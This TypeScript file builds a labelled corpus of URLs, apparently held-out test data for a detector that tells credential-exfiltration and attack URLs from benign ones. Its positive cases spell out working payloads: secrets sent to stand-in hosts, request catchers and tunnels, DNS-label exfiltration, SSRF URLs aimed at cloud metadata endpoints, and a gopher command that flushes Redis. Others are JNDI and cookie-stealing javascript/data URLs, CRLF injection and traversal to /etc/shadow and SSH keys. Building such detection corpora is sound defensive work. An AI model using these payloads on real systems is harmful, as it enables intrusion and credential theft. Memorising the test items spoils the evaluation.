// Held-out corpus B — URLs. Written blind (see README.md). Credential-shaped values are
// generated at run time from a seeded PRNG with prefixes built by concatenation, so the
// repository never holds a string that looks like a live credential.
import type { CorpusCase } from "../types.ts";
import { ALNUM, HEX, UPPER_NUM, b64, b64url, base32, hex, prng, randStr } from "./util.ts";

export const cases: CorpusCase[] = [];
const P = (category: string, slug: string, url: string, note?: string) =>
  cases.push({ id: `hb-url-p-${slug}`, kind: "url", category: `heldoutb-url-${category}`, label: "positive", text: url, ...(note ? { note } : {}) });
const B = (category: string, slug: string, url: string, note?: string) =>
  cases.push({ id: `hb-url-b-${slug}`, kind: "url", category: `heldoutb-benign-url-${category}`, label: "benign", text: url, ...(note ? { note } : {}) });

const rnd = prng(0x5eed_b0b);
const r = (alphabet: string, n: number) => randStr(rnd, alphabet, n);
const DIG = "0123456789";
const B64C = ALNUM + "+/";
const UUID = () => `${r(HEX, 8)}-${r(HEX, 4)}-4${r(HEX, 3)}-a${r(HEX, 3)}-${r(HEX, 12)}`;

// credential-shaped values (fake, generated)
const ghToken = () => "gh" + "p_" + r(ALNUM, 36);
const awsId = () => "AK" + "IA" + r(UPPER_NUM.replace(/[0-1]/g, ""), 16);
const awsSecret = () => r(B64C, 40);
const slackBot = () => "xo" + "xb-" + r(DIG, 12) + "-" + r(DIG, 13) + "-" + r(ALNUM, 24);
const stripeLive = () => "sk" + "_live_" + r(ALNUM, 24);
const openaiKey = () => "sk-" + "proj-" + r(ALNUM + "_-", 48) + "T3Blbk" + "FJ" + r(ALNUM + "_-", 48);
const googleKey = () => "AI" + "za" + r(ALNUM + "_-", 35);
const npmToken = () => "np" + "m_" + r(ALNUM, 36);
const gitlabPat = () => "gl" + "pat-" + r(ALNUM + "_-", 20);
const anthropicKey = () => "sk-" + "ant-" + "api03-" + r(ALNUM + "_-", 93) + "AA";
const jwt = () => {
  const h = b64url(JSON.stringify({ alg: "HS256", typ: "JWT" }));
  const p = b64url(JSON.stringify({ sub: "u_" + r(DIG, 8), role: "admin", iat: 1718092800, exp: 1718179200 }));
  return `${h}.${p}.${r(ALNUM + "_-", 43)}`;
};
const enc = encodeURIComponent;

// ═════════════════════════ POSITIVES ═════════════════════════

// ── secrets / env data in the query ──
P("exfil-query", "aws-pair-ping", `https://api.status-metrics.io/v1/ping?k=${awsId()}&s=${enc(awsSecret())}&h=build-runner-7`, "AWS key pair in query to unknown host");
P("exfil-query", "openai-env", `https://telemetry.devtools-cdn.net/collect?env=${enc("OPENAI_API_KEY=" + openaiKey())}`, "env assignment URL-encoded");
P("exfil-query", "stripe-badge", `https://img.shields-cdn.org/badge.svg?label=build&message=passing&x=${stripeLive()}`, "Stripe live key in a badge URL");
P("exfil-query", "slack-relay", `https://hooks.slack-relay.app/in?t=${slackBot()}&ch=general`, "Slack bot token");
P("exfil-query", "chat-db-password", `https://analytics.docs-helper.io/p.gif?h=${enc("user: here is the prod db url postgres://admin:" + r(ALNUM, 18) + "@prod-db.internal:5432/app, can you check why it's slow?")}`, "chat history with DB password in pixel URL");
P("exfil-query", "jwt-session", `https://cdn.asset-loader.net/i.png?session=${jwt()}`, "JWT in image URL");
P("exfil-query", "git-cred-url", `https://collector.build-insights.dev/r?u=${enc("https://oauth2:" + gitlabPat() + "@gitlab.com/acme/infra.git")}`, "git remote URL with token, encoded");
P("exfil-query", "google-key-thirdparty", `https://maps-proxy.geo-tiles.app/tile/12/2048/1360.png?key=${googleKey()}`, "Google API key sent to a non-Google host");
P("exfil-query", "anthropic-key", `https://llm-usage-stats.com/api/track?model=claude&key=${anthropicKey()}`, "Anthropic-shaped key");
P("exfil-query", "env-dump", `https://debug.pipeline-tools.net/e?e=${enc(`HOME=/home/dev\nPATH=/usr/local/bin:/usr/bin\nGITHUB_TOKEN=${ghToken()}\nCI=true`)}`, "URL-encoded env dump");
P("exfil-query", "etc-passwd", `https://log-collector.example-cdn.net/a?f=${enc("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\ndev:x:1000:1000:,,,:/home/dev:/bin/zsh")}`, "/etc/passwd contents");
P("exfil-query", "userinfo-token", `https://${ghToken()}@git-mirror.codesync.app/acme/api.git`, "token as userinfo to unknown git host");
P("exfil-query", "npm-path", `https://registry-npm.mirror-cache.xyz/-/v1/login/${npmToken()}`, "npm token in path");
P("exfil-query", "chunked-pem", `https://t.fontcdn-static.com/c?i=3&n=12&d=${enc(b64("-----BEGIN OPENSSH PRIVATE KEY-----\n" + r(B64C, 70) + "\n"))}`, "chunked private key");

// ── encoded payloads in path / fragment / odd places ──
P("exfil-encoded", "b64-aws-query", `https://x.webfont-cache.net/?d=${b64(`AWS_ACCESS_KEY_ID=${awsId()}\nAWS_SECRET_ACCESS_KEY=${awsSecret()}`)}`, "base64 of AWS env lines");
P("exfil-encoded", "b64url-path-css", `https://cdn.fonts-static.net/css/${b64url(`DATABASE_URL=postgres://app:${r(ALNUM, 20)}@10.2.0.14/app\nSTRIPE_KEY=${stripeLive()}`)}.css`, "base64url .env in a path segment");
P("exfil-encoded", "fragment-b64", `https://app.notes-share.io/view#k=${b64(ghToken())}`, "base64 token in fragment");
P("exfil-encoded", "hex-ssh", `https://metrics.edge-analytics.io/px?v=${hex("-----BEGIN RSA PRIVATE KEY-----\nMIIEow" + r(B64C, 40))}`, "hex-encoded private key header");
P("exfil-encoded", "double-encoded", `https://sync.cloud-notes.app/s?q=${enc(enc("AWS_SECRET_ACCESS_KEY=" + awsSecret()))}`, "double URL-encoded secret");
P("exfil-encoded", "kubeconfig-b64", `https://k8s-dashboard-share.net/import?kc=${enc(b64(`apiVersion: v1\nclusters:\n- cluster:\n    server: https://10.0.0.1:6443\n  name: prod\nusers:\n- name: admin\n  user:\n    token: ${r(ALNUM, 64)}`))}`, "base64 kubeconfig with token");
P("exfil-encoded", "reversed-token", `https://s.short-link.cc/${[...ghToken()].reverse().join("")}`, "reversed token in path");
P("exfil-encoded", "hex-env-path", `https://static.imgcdn-delivery.com/${hex("OPENAI_API_KEY=" + openaiKey()).slice(0, 160)}/pixel.gif`, "hex env in path");
P("exfil-encoded", "b64-history-md-image", `https://avatars.chat-render.io/u.png?c=${b64url("[user] my ssh passphrase is hunter2-" + r(ALNUM, 8) + ", and the server is 10.1.4.22 [assistant] ok")}`, "base64url chat transcript");
P("exfil-encoded", "many-params-split", `https://track.adnet-pixel.com/t.gif?a=${awsId().slice(0, 10)}&b=${awsId().slice(10)}&c=${enc(awsSecret())}&cb=${r(DIG, 10)}`, "key split over parameters");

// ── DNS / subdomain exfiltration ──
P("exfil-dns", "base32-labels", `http://${base32("AWS_SECRET=" + awsSecret()).match(/.{1,50}/g)!.join(".")}.d.dnslog-c.net/`, "base32 labels under a logging zone");
P("exfil-dns", "interactsh-hex", `https://${hex("dev@build-7:/home/dev")}.c9k2m1x8q3r7t5v0w4z6.oast.fun/`, "hex label on interactsh domain");
P("exfil-dns", "seq-chunks", `https://${base32(ghToken()).slice(0, 40)}.0001.x.exfil-resolver.net/`, "sequenced chunk label");
P("exfil-dns", "burp", `http://${hex("linux:whoami=dev")}.q8w7e6r5t4y3u2i1o0p9.burpcollaborator.net`, "Burp Collaborator");
P("exfil-dns", "dnslog-cn", `http://${r("abcdefghijklmnopqrstuvwxyz0123456789", 40)}.k3x9.dnslog.cn`, "dnslog.cn");
P("exfil-dns", "deep-subdomain-b64", `https://${b64url("token=" + npmToken()).replace(/[_-]/g, "0").toLowerCase().match(/.{1,30}/g)!.join(".")}.cdn-sync.io/`, "deep subdomain chain");

// ── request catchers, paste and share sites ──
P("catcher", "webhook-site", `https://webhook.site/${UUID()}?data=${enc("ci-runner: " + r(ALNUM, 12))}`, "webhook.site");
P("catcher", "pipedream", `https://eo${r("0123456789abcdef", 14)}.m.pipedream.net/?host=build-7&user=dev`, "pipedream endpoint");
P("catcher", "requestbin", `https://requestbin.net/r/${r("abcdefghijklmnopqrstuvwxyz0123456789", 8)}?q=hello`, "requestbin");
P("catcher", "oast-pro", `https://${r("abcdefghijklmnopqrstuvwxyz0123456789", 20)}.oast.pro/callback`, "OAST callback");
P("catcher", "beeceptor", `https://myapp-debug.free.beeceptor.com/collect?c=${enc("cwd=/home/dev/work&user=dev")}`, "beeceptor");
P("catcher", "pastebin-api", `https://pastebin.com/api/api_post.php?api_option=paste&api_paste_private=1&api_paste_code=${enc("[default]\naws_access_key_id = " + awsId())}`, "pastebin post with credentials file");
P("catcher", "transfer-sh", `https://transfer.sh/${r(ALNUM, 6)}/id_ed25519`, "transfer.sh upload path named like a key");
P("catcher", "hastebin", `https://hastebin.com/documents?text=${enc("export NPM_TOKEN=" + npmToken())}`, "hastebin");
P("catcher", "ntfy", `https://ntfy.sh/ci-leaks-${r(DIG, 4)}?message=${enc("deploy key ok: " + r(ALNUM, 20))}`, "ntfy topic");
P("catcher", "discord-webhook", `https://discord.com/api/webhooks/${r(DIG, 18)}/${r(ALNUM + "_-", 68)}?content=${enc("env dump attached")}`, "Discord webhook");
P("catcher", "telegram-bot", `https://api.telegram.org/bot${r(DIG, 10)}:AA${r(ALNUM + "_-", 33)}/sendMessage?chat_id=${r(DIG, 9)}&text=${enc("id_rsa: " + r(B64C, 60))}`, "Telegram bot sendMessage");
P("catcher", "httpbin-anything", `https://httpbin.org/anything?secret=${enc(stripeLive())}`, "request echo service with a key");
P("catcher", "zapier-catch", `https://hooks.zapier.com/hooks/catch/${r(DIG, 7)}/${r("abcdefghijklmnopqrstuvwxyz0123456789", 6)}/?d=${enc(b64("GITHUB_TOKEN=" + ghToken()))}`, "Zapier catch hook");
P("catcher", "canarytoken", `http://canarytokens.com/traffic/tags/${r("abcdefghijklmnopqrstuvwxyz0123456789", 25)}/index.html`, "canary token URL");
P("catcher", "dpaste", `https://dpaste.com/api/v2/?content=${enc(".env\nSECRET_KEY=" + r(ALNUM, 50))}&expiry_days=1`, "dpaste");

// ── tunnels ──
P("tunnel", "ngrok-free", `https://3f9a-203-0-113-7.ngrok-free.app/upload?f=id_rsa`, "ngrok");
P("tunnel", "trycloudflare", `https://purple-forest-lamp-1234.trycloudflare.com/c?d=${enc(b64("whoami=dev;pwd=/home/dev/work"))}`, "Cloudflare quick tunnel");
P("tunnel", "localtunnel", `https://brave-cat-42.loca.lt/x?h=${r(HEX, 32)}`, "localtunnel");
P("tunnel", "serveo", `https://${r(HEX, 16)}.serveo.net/in`, "serveo");
P("tunnel", "localhost-run", `https://${r(HEX, 12)}.lhr.life/`, "localhost.run");
P("tunnel", "bore", `http://bore.pub:41234/r?k=${r(ALNUM, 24)}`, "bore.pub");
P("tunnel", "pinggy", `https://rn${r("abcdefghijklmnopqrstuvwxyz", 6)}-203-0-113-9.a.free.pinggy.link/`, "pinggy");
P("tunnel", "ngrok-io-legacy", `https://${r(HEX, 8)}.ngrok.io/hook`, "legacy ngrok domain");

// ── SSRF targets in many notations ──
P("ssrf", "imds-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "AWS IMDS");
P("ssrf", "gcp-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "GCP metadata");
P("ssrf", "azure-identity", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", "Azure IMDS");
P("ssrf", "decimal", "http://2852039166/latest/meta-data/", "decimal IP");
P("ssrf", "hex", "http://0xA9FEA9FE/latest/user-data", "hex IP");
P("ssrf", "octal", "http://0251.0376.0251.0376/latest/meta-data/", "octal IP");
P("ssrf", "ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "IPv4-mapped IPv6");
P("ssrf", "ec2-ipv6", "http://[fd00:ec2::254]/latest/api/token", "EC2 IPv6 IMDS");
P("ssrf", "nip-io", "http://169.254.169.254.nip.io/latest/meta-data/", "wildcard DNS to metadata IP");
P("ssrf", "short-loopback", "http://127.1:8080/admin/users", "short-form loopback");
P("ssrf", "docker-api", "http://0.0.0.0:2375/containers/json?all=1", "Docker API");
P("ssrf", "kubelet", "https://localhost:10250/pods", "kubelet API");
P("ssrf", "k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "in-cluster API secrets");
P("ssrf", "alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "Alibaba metadata");
P("ssrf", "ecs-creds", `http://169.254.170.2/v2/credentials/${UUID()}`, "ECS task credentials");
P("ssrf", "userinfo-trick", "http://github.com@169.254.169.254/latest/meta-data/", "userinfo confusion");
P("ssrf", "mapped-loopback-redis", "http://[0:0:0:0:0:ffff:127.0.0.1]:6379/", "expanded mapped loopback");
P("ssrf", "enclosed-digits", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/", "enclosed alphanumerics");
P("ssrf", "consul-hex", "http://0x7f000001:8500/v1/kv/?recurse", "hex loopback Consul");
P("ssrf", "internal-es", "http://10.0.0.12:9200/_cat/indices?v", "internal Elasticsearch");
P("ssrf", "open-redirect-imds", "https://login.example-app.com/redirect?next=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "open redirect to metadata");
P("ssrf", "mixed-octal-dotless", "http://0x7f.0.0.1:2379/v2/keys/?recursive=true", "mixed hex octet etcd");

// ── odd schemes ──
P("scheme", "file-passwd", "file:///etc/passwd", "file scheme");
P("scheme", "file-aws", "file://localhost/home/dev/.aws/credentials", "file with host");
P("scheme", "gopher-redis", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "gopher to redis");
P("scheme", "dict-memcached", "dict://127.0.0.1:11211/stats", "dict scheme");
P("scheme", "ldap-jndi", "ldap://203.0.113.66:1389/Exploit", "JNDI-style LDAP");
P("scheme", "jar", "jar:http://203.0.113.66/payload.jar!/", "jar scheme");
P("scheme", "data-html", `data:text/html;base64,${b64("<script>fetch('https://c.exfil-sink.net/?c='+document.cookie)</script>")}`, "data URL with cookie-stealing script");
P("scheme", "javascript", "javascript:fetch('https://c.exfil-sink.net/?c='+encodeURIComponent(localStorage.getItem('token')))", "javascript URL");
P("scheme", "netdoc", "netdoc:///etc/shadow", "Java netdoc");
P("scheme", "php-filter", "php://filter/convert.base64-encode/resource=/var/www/.env", "php filter wrapper");

// ── CRLF injection & traversal ──
P("crlf-traversal", "crlf-set-cookie", "http://shop.example.com/%0d%0aSet-Cookie:%20session=attacker", "CRLF header injection");
P("crlf-traversal", "crlf-host", "http://internal-api.example.com/%20HTTP/1.1%0d%0aHost:%20169.254.169.254%0d%0a%0d%0a", "request splitting to metadata");
P("crlf-traversal", "traversal-plain", "https://files.example.com/download?path=../../../../etc/shadow", "plain traversal");
P("crlf-traversal", "traversal-encoded-dots", "https://cdn.example.com/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "encoded dots");
P("crlf-traversal", "traversal-proc-environ", "https://app.example.com/assets/..%2f..%2f..%2fproc%2fself%2fenviron", "encoded slashes to environ");
P("crlf-traversal", "traversal-double", "https://api.example.com/v1/files/..%252f..%252f..%252fhome%252fdev%252f.ssh%252fid_rsa", "double-encoded traversal");
P("crlf-traversal", "unicode-crlf", "https://svc.example.com/%E5%98%8A%E5%98%8DLocation:%20https://evil.example.net", "unicode CRLF variant");
P("crlf-traversal", "backslash-traversal", "https://files.example.com/get?name=..\\..\\..\\windows\\win.ini", "backslash traversal");

// ═════════════════════════ BENIGN ═════════════════════════
const sha = () => r(HEX, 40);

// ── CDNs and static assets ──
B("cdn", "jsdelivr", "https://cdn.jsdelivr.net/npm/react@18.3.1/umd/react.production.min.js");
B("cdn", "unpkg", "https://unpkg.com/lodash@4.17.21/lodash.min.js");
B("cdn", "cdnjs", "https://cdnjs.cloudflare.com/ajax/libs/three.js/r128/three.min.js");
B("cdn", "google-fonts", "https://fonts.googleapis.com/css2?family=Inter:wght@400;600&family=JetBrains+Mono&display=swap");
B("cdn", "cloudfront-asset", `https://d1a2b3c4d5e6f7.cloudfront.net/assets/app.${r(HEX, 8)}.js`);
B("cdn", "jsdelivr-gh", `https://cdn.jsdelivr.net/gh/twbs/bootstrap@${sha().slice(0, 7)}/dist/css/bootstrap.min.css`);

// ── package registries ──
B("registry", "npm-scoped", "https://registry.npmjs.org/@types%2fnode");
B("registry", "npm-tarball", "https://registry.npmjs.org/typescript/-/typescript-5.4.5.tgz");
B("registry", "pypi-wheel", `https://files.pythonhosted.org/packages/${r(HEX, 2)}/${r(HEX, 2)}/${r(HEX, 60)}/requests-2.32.3-py3-none-any.whl#sha256=${r(HEX, 64)}`, "wheel URL with sha256 fragment");
B("registry", "pypi-simple", "https://pypi.org/simple/numpy/");
B("registry", "crates", "https://crates.io/api/v1/crates/serde/1.0.203/download");
B("registry", "goproxy", "https://proxy.golang.org/github.com/stretchr/testify/@v/v1.9.0.zip");
B("registry", "maven", "https://repo.maven.apache.org/maven2/org/apache/commons/commons-lang3/3.14.0/commons-lang3-3.14.0.jar");
B("registry", "rubygems", "https://rubygems.org/downloads/rails-7.1.3.gem");
B("registry", "ghcr", "https://ghcr.io/v2/actions/runner/manifests/latest");
B("registry", "dockerhub", "https://registry-1.docker.io/v2/library/node/manifests/20-alpine");
B("registry", "nuget", "https://api.nuget.org/v3-flatcontainer/newtonsoft.json/13.0.3/newtonsoft.json.13.0.3.nupkg");
B("registry", "huggingface", "https://huggingface.co/datasets/rajpurkar/squad/resolve/main/plain_text/train-00000-of-00001.parquet");

// ── GitHub and code hosting ──
B("code-hosting", "gh-release", "https://github.com/oven-sh/bun/releases/download/bun-v1.1.8/bun-linux-x64.zip");
B("code-hosting", "raw-install-script", "https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh");
B("code-hosting", "gh-api-pulls", "https://api.github.com/repos/microsoft/vscode/pulls?state=open&per_page=100&page=2");
B("code-hosting", "gh-compare", "https://github.com/vitejs/vite/compare/v5.2.0...v5.2.11");
B("code-hosting", "codeload", `https://codeload.github.com/acme/widgets/tar.gz/${sha()}`);
B("code-hosting", "gh-release-asset-redirect", `https://objects.githubusercontent.com/github-production-release-asset-2e65be/${r(DIG, 9)}/${UUID()}?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=releaseassetproduction%2F20240611%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20240611T101500Z&X-Amz-Expires=300&X-Amz-Signature=${r(HEX, 64)}&X-Amz-SignedHeaders=host&actor_id=0&key_id=0&repo_id=${r(DIG, 9)}&response-content-disposition=attachment%3B%20filename%3Dapp-linux-x64.tar.gz&response-content-type=application%2Foctet-stream`, "GitHub release download redirect");
B("code-hosting", "gitlab-mr", "https://gitlab.com/gitlab-org/gitlab/-/merge_requests/152345/diffs?commit_id=" + sha());

// ── cloud consoles ──
B("console", "aws-cloudwatch", "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/$252Faws$252Flambda$252Fapi-handler/log-events");
B("console", "azure-portal", `https://portal.azure.com/#@contoso.onmicrosoft.com/resource/subscriptions/${UUID()}/resourceGroups/rg-prod/providers/Microsoft.Web/sites/app-prod/overview`);
B("console", "gcp-logs", "https://console.cloud.google.com/logs/query;query=resource.type%3D%22k8s_container%22%0Aseverity%3E%3DERROR;timeRange=PT1H?project=my-proj-123456");
B("console", "aws-ec2", "https://us-east-1.console.aws.amazon.com/ec2/home?region=us-east-1#Instances:instanceState=running;sort=desc:launchTime");
B("console", "s3-public-object", "https://s3.eu-central-1.amazonaws.com/open-data-bucket/datasets/2024/train.parquet");

// ── signed URLs ──
B("signed", "gcs-v4", `https://storage.googleapis.com/acme-reports/q2/summary.pdf?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Credential=reports-signer%40acme-proj.iam.gserviceaccount.com%2F20240611%2Fauto%2Fstorage%2Fgoog4_request&X-Goog-Date=20240611T101500Z&X-Goog-Expires=900&X-Goog-SignedHeaders=host&X-Goog-Signature=${r(HEX, 512)}`, "GCS V4 signed URL");
B("signed", "cloudfront", `https://d111111abcdef8.cloudfront.net/videos/intro.mp4?Expires=1718200000&Signature=${r(ALNUM + "~-", 172)}__&Key-Pair-Id=K2JCJMDEHXQW5F`, "CloudFront signed URL");
B("signed", "azure-sas", `https://contosodata.blob.core.windows.net/exports/2024-06.csv?sv=2022-11-02&ss=b&srt=o&sp=r&se=2024-06-12T00:00:00Z&st=2024-06-11T00:00:00Z&spr=https&sig=${enc(r(B64C, 43) + "=")}`, "Azure SAS (read-only)");
B("signed", "firebase-download", `https://firebasestorage.googleapis.com/v0/b/my-app.appspot.com/o/avatars%2F${r(ALNUM, 20)}.png?alt=media&token=${UUID()}`, "Firebase download token");

// ── OAuth / SSO ──
B("oauth", "google-authorize", `https://accounts.google.com/o/oauth2/v2/auth?client_id=${r(DIG, 12)}-${r("abcdefghijklmnopqrstuvwxyz0123456789", 32)}.apps.googleusercontent.com&redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcallback&response_type=code&scope=openid%20email%20profile&state=${r(ALNUM, 24)}&code_challenge=${r(ALNUM + "_-", 43)}&code_challenge_method=S256&access_type=offline&prompt=consent`);
B("oauth", "github-authorize", `https://github.com/login/oauth/authorize?client_id=Iv1.${r(HEX, 16)}&redirect_uri=https%3A%2F%2Fapp.example.com%2Fauth%2Fcallback&scope=repo%20read%3Aorg&state=${r(HEX, 32)}`);
B("oauth", "microsoft-authorize", `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${UUID()}&response_type=code&redirect_uri=https%3A%2F%2Fapp.contoso.com%2Fsignin-oidc&response_mode=form_post&scope=openid%20profile%20offline_access%20User.Read&state=${r(ALNUM, 32)}&nonce=${r(ALNUM, 32)}`);
B("oauth", "okta-discovery", "https://acme.okta.com/oauth2/default/.well-known/openid-configuration");
B("oauth", "google-token-endpoint", "https://oauth2.googleapis.com/token");

// ── maps, video, meetings, productivity ──
B("media", "gmaps", "https://www.google.com/maps/place/Eiffel+Tower/@48.8583701,2.2919064,17z/data=!3m1!4b1!4m6!3m5!1s0x47e66e2964e34e2d:0x8ddca9ee380ef7e0!8m2!3d48.8583701!4d2.2944813!16zL20vMDJqODE");
B("media", "osm", "https://www.openstreetmap.org/#map=15/52.5163/13.3777");
B("media", "youtube", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s&list=PLFgquLnL59alCl_2TQvOiD5Vgm1hCaGSI&index=3");
B("media", "youtu-be-si", `https://youtu.be/jNQXAC9IVRw?si=${r(ALNUM + "_-", 16)}`);
B("media", "vimeo", "https://vimeo.com/76979871");
B("media", "zoom-pwd", `https://us02web.zoom.us/j/${r(DIG, 11)}?pwd=${r(ALNUM, 32)}.1`, "Zoom join link with passcode hash");
B("media", "teams", `https://teams.microsoft.com/l/meetup-join/19%3ameeting_${r(ALNUM, 48)}%40thread.v2/0?context=%7b%22Tid%22%3a%22${UUID()}%22%2c%22Oid%22%3a%22${UUID()}%22%7d`);
B("media", "gcal-template", "https://calendar.google.com/calendar/render?action=TEMPLATE&text=Team+sync&dates=20240612T150000Z/20240612T153000Z&details=Agenda+in+the+shared+doc&location=Room+4");
B("media", "slack-archive", "https://acme.slack.com/archives/C0123ABCD/p1718092800123456?thread_ts=1718092700.000100&cid=C0123ABCD");
B("media", "jira", "https://acme.atlassian.net/browse/OPS-2291?focusedCommentId=10234&page=com.atlassian.jira.plugin.system.issuetabpanels%3Acomment-tabpanel");
B("media", "figma", `https://www.figma.com/design/${r(ALNUM, 22)}/Checkout-flow?node-id=12-345&t=${r(ALNUM, 16)}-0`);
B("media", "notion", `https://www.notion.so/acme/Runbook-disk-full-${r(HEX, 32)}`);
B("media", "mailto", "mailto:support@example.com?subject=Refund%20request&body=Order%20%2344817%20arrived%20damaged");

// ── docs ──
B("docs", "python-docs", "https://docs.python.org/3/library/asyncio-task.html#asyncio.TaskGroup");
B("docs", "mdn-credentials", "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch#including_credentials");
B("docs", "aws-docs-keys", "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html#Using_RotateAccessKey");
B("docs", "k8s-docs", "https://kubernetes.io/docs/tasks/access-application-cluster/access-cluster/#directly-accessing-the-rest-api");
B("docs", "ngrok-docs", "https://ngrok.com/docs/getting-started/", "docs page of a tunnel vendor");
B("docs", "webhooks-docs", "https://docs.github.com/en/webhooks/using-webhooks/creating-webhooks#creating-a-repository-webhook");
B("docs", "pkg-go-dev", "https://pkg.go.dev/golang.org/x/net/http2#Transport");
B("docs", "imds-docs", "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html", "docs page about instance metadata");

// ── analytics, monitoring, marketing ──
B("analytics", "utm", "https://www.example-shop.com/products/kettle?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&utm_content=hero_button");
B("analytics", "ga4-collect", `https://www.google-analytics.com/g/collect?v=2&tid=G-${r(UPPER_NUM, 10)}&gtm=45je46a0v9&_p=1718092800000&cid=${r(DIG, 10)}.1718092800&ul=en-us&sr=1920x1080&en=page_view&dl=https%3A%2F%2Fexample.com%2Fpricing&dt=Pricing%20%E2%80%94%20Example`);
B("analytics", "gclid", `https://www.example.com/landing?gclid=Cj0KCQjw${r(ALNUM + "_-", 80)}&fbclid=IwAR${r(ALNUM + "_-", 56)}`, "ad click IDs");
B("analytics", "sentry", "https://acme.sentry.io/issues/4512345678/?project=1234567&query=is%3Aunresolved+level%3Aerror&statsPeriod=14d&referrer=issue-stream");
B("analytics", "grafana", "https://grafana.acme.io/d/abc123xyz/api-latency?orgId=1&from=now-6h&to=now&var-env=prod&var-service=checkout&refresh=30s");
B("analytics", "kibana-rison", "https://kibana.acme.io/app/discover#/?_g=(filters:!(),refreshInterval:(pause:!t,value:0),time:(from:now-15m,to:now))&_a=(columns:!(message),query:(language:kuery,query:'service.name:%22api%22%20and%20log.level:error'))");
B("analytics", "datadog", "https://app.datadoghq.com/logs?query=service%3Aapi%20status%3Aerror%20%40http.status_code%3A500&from_ts=1718090000000&to_ts=1718093600000&live=false");
B("analytics", "google-redirect", `https://www.google.com/url?sa=t&rct=j&q=&esrc=s&source=web&cd=&ved=2ahUKEwi${r(ALNUM + "_-", 60)}&url=https%3A%2F%2Fwww.postgresql.org%2Fdocs%2Fcurrent%2Findex.html&usg=AOvVaw${r(ALNUM + "_-", 22)}&opi=89978449`, "Google redirect with opaque params");
B("analytics", "amazon-product", "https://www.amazon.com/dp/B08N5WRWNW/ref=sr_1_3?crid=2XYZQ8ABCDEF&keywords=usb+c+hub&qid=1718092800&sprefix=usb+c+hu%2Caps%2C187&sr=8-3");

// ── search URLs in many scripts ──
B("search", "google-ja", "https://www.google.com/search?q=%E6%9D%B1%E4%BA%AC+%E5%A4%A9%E6%B0%97+%E6%98%8E%E6%97%A5&oq=%E6%9D%B1%E4%BA%AC+%E5%A4%A9%E6%B0%97&sourceid=chrome&ie=UTF-8");
B("search", "google-ru-raw", "https://www.google.com/search?q=как+настроить+nginx+reverse+proxy&hl=ru");
B("search", "bing-ar", "https://www.bing.com/search?q=%D9%83%D9%8A%D9%81%D9%8A%D8%A9+%D8%AA%D8%AB%D8%A8%D9%8A%D8%AA+%D8%A8%D8%A7%D9%8A%D8%AB%D9%88%D9%86&form=QBLH");
B("search", "zh-wiki", "https://zh.wikipedia.org/wiki/%E8%87%AA%E7%84%B6%E8%AF%AD%E8%A8%80%E5%A4%84%E7%90%86");
B("search", "ko-wiki-raw", "https://ko.wikipedia.org/wiki/대한민국");
B("search", "ddg", "https://duckduckgo.com/?q=rust+borrow+checker+lifetime+elision&ia=web");
B("search", "baidu", "https://www.baidu.com/s?wd=%E5%A6%82%E4%BD%95%E5%AE%89%E8%A3%85python&rsv_spt=1&rsv_iqid=0x" + r(HEX, 16) + "&issp=1&f=8");
B("search", "yandex", "https://yandex.ru/search/?text=%D0%BF%D0%BE%D0%B3%D0%BE%D0%B4%D0%B0+%D0%BC%D0%BE%D1%81%D0%BA%D0%B2%D0%B0&lr=213");
B("search", "naver", "https://search.naver.com/search.naver?where=nexearch&sm=top_hty&fbm=0&ie=utf8&query=%EB%82%A0%EC%94%A8");
B("search", "google-hi", "https://www.google.com/search?q=%E0%A4%AE%E0%A5%8C%E0%A4%B8%E0%A4%AE+%E0%A4%A6%E0%A4%BF%E0%A4%B2%E0%A5%8D%E0%A4%B2%E0%A5%80&hl=hi");
B("search", "google-long", `https://www.google.com/search?q=postgres+connection+pool+exhausted+pgbouncer&sca_esv=${r(HEX, 16)}&sxsrf=ADLYWI${r(ALNUM + "_-", 40)}%3A1718092800000&ei=${r(ALNUM + "_-", 22)}&ved=0ahUKEwi${r(ALNUM + "_-", 40)}&uact=5&oq=postgres+connection+pool&gs_lp=${r(ALNUM + "_-", 120)}&sclient=gws-wiz-serp`, "long search URL with opaque state");
B("search", "so-tagged", "https://stackoverflow.com/questions/tagged/python+asyncio?tab=Votes&page=2&pagesize=50");
B("search", "he-wiki", "https://he.wikipedia.org/wiki/%D7%99%D7%A8%D7%95%D7%A9%D7%9C%D7%99%D7%9D");

// ── APIs and misc shapes ──
B("misc", "openai-endpoint", "https://api.openai.com/v1/chat/completions");
B("misc", "stripe-list", "https://api.stripe.com/v1/charges?limit=3&created%5Bgte%5D=1717200000");
B("misc", "sts-caller", "https://sts.amazonaws.com/?Action=GetCallerIdentity&Version=2011-06-15");
B("misc", "doh-wire", "https://1.1.1.1/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB", "DNS-over-HTTPS wire query in base64url");
B("misc", "dns-google-json", "https://dns.google/resolve?name=example.com&type=AAAA");
B("misc", "punycode", "https://xn--mnchen-3ya.de/rathaus/");
